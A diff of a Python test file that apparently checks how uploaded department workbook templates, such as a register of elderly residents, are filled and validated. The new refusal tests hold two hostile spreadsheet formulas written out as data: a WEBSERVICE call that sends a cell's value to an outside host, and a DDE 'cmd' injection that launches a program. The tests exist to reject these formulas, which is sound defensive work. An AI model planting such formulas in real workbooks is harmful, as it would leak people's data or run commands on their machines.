@@ -68,6 +68,7 @@ def test_what_is_held_is_locked_and_what_is_asked_is_open(
     sheet = taken(open_round(town, now), town, now)
     assert sheet.sheet.protection.sheet
     assert sheet.cell(0, "name").protection.locked
+    assert sheet.cell(0, "phone").value == "15400001000"
     assert not sheet.cell(0, "needs").protection.locked
     letter = sheet.cell(0, "LIREN").column_letter
     assert sheet.sheet.column_dimensions[letter].hidden
@@ -301,14 +302,16 @@ def test_a_whole_other_list_is_no_correction(
     assert not Fact.objects.filter(element="name").exists()
 
 
-def own_workbook(*, beneath: bool = False, merged: str = "") -> bytes:
+def own_workbook(
+    *, beneath: bool = False, merged: str = "", sum_of: str = "COUNTA(B5:B900)"
+) -> bytes:
     """A department's own list: a sum above, headings with names, a formula in the first row."""
     book = Workbook()
     sheet = book.active
     assert sheet is not None
     sheet.title = "街道 表"
     sheet["A1"] = "街道独居老人名册"
-    sheet["B2"] = "=COUNTA(B5:B900)"
+    sheet["B2"] = f"={sum_of}"
     for at, words in enumerate(("姓名", "电话", "探访日期", "天数"), start=2):
         sheet.cell(4, at).value = words
     sheet["E5"] = '=IF(D5="","",TODAY()-DATEVALUE(D5))'
@@ -357,6 +360,15 @@ def test_the_departments_own_workbook_keeps_its_formulas(
     assert selectors.answers_of(row)[people[0].pk].values == {"visited": "2026-11-12"}
 
 
+@pytest.mark.parametrize("sum_of", ['COUNTIF(B5:B900,"a|b [x]!")', "SUM(Table1[天数])"])
+def test_what_reckons_inside_the_workbook_stays(
+    town: Neighbourhood, now: datetime, sum_of: str
+) -> None:
+    row = open_round(town, now, own_form(), template=own_workbook(sum_of=sum_of))
+    data = take_workbook(row=row, by=town.users["worker"], now=now)
+    assert load_workbook(io.BytesIO(data))["街道 表"]["B2"].value == f"={sum_of}"
+
+
 def test_rows_begin_below_a_heading_of_two_rows(town: Neighbourhood, now: datetime) -> None:
     people = elders(town, now)
     row = open_round(town, now, own_form(), template=own_workbook(merged="B4:B5"))
@@ -371,10 +383,23 @@ def test_rows_begin_below_a_heading_of_two_rows(town: Neighbourhood, now: dateti
         (None, "ledgers.template_missing"),
         (own_workbook(beneath=True), "ledgers.template_not_empty"),
         (own_workbook(merged="B9:D9"), "ledgers.template_not_empty"),
+        (
+            own_workbook(sum_of='WEBSERVICE("https://a.example/?"&B5)'),
+            "ledgers.template_reaches_out",
+        ),
+        (own_workbook(sum_of="cmd|'/c calc'!A1"), "ledgers.template_reaches_out"),
         (broken()[3], "ledgers.cell_unknown"),
         (b"PK\x03\x04nothing", "core.file_unreadable"),
     ],
-    ids=["none", "sums below", "merged below", "no names", "broken"],
+    ids=[
+        "none",
+        "sums below",
+        "merged below",
+        "asks the web",
+        "asks a program",
+        "no names",
+        "broken",
+    ],
 )
 def test_a_workbook_that_could_not_be_filled_is_refused_when_it_is_asked(
     town: Neighbourhood, now: datetime, template: bytes | None, code: str
